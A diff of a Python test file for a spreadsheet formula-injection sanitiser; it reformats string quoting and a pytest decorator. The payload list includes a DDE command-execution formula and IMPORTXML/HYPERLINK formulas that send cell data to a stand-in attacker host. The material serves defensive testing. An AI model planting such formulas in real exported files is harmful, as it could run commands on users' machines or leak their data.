@@ -14,8 +14,8 @@ CALCULATES = "=+-@"
 PAYLOADS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"https://evil.example\";\"hier\")",
-    "=IMPORTXML(CONCAT(\"https://evil.example/\";A1);\"//a\")",
+    '=HYPERLINK("https://evil.example";"hier")',
+    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
     "=SUM(A1:A9)",
     "+1+1",
     "+49 231 123456",
@@ -56,7 +56,9 @@ def test_a_telephone_number_survives() -> None:
     assert cell("+49 231 123456") == "'+49 231 123456"
 
 
-@pytest.mark.parametrize("name", ["El Idrissi", "Nguyễn Thị Lan", "أمينة", "von der Heide", "O'Neill", "Yıldız", "م‌ن"])
+@pytest.mark.parametrize(
+    "name", ["El Idrissi", "Nguyễn Thị Lan", "أمينة", "von der Heide", "O'Neill", "Yıldız", "م‌ن"]
+)
 def test_a_name_stays_as_it_is(name: str) -> None:
     assert cell(name) == name
 
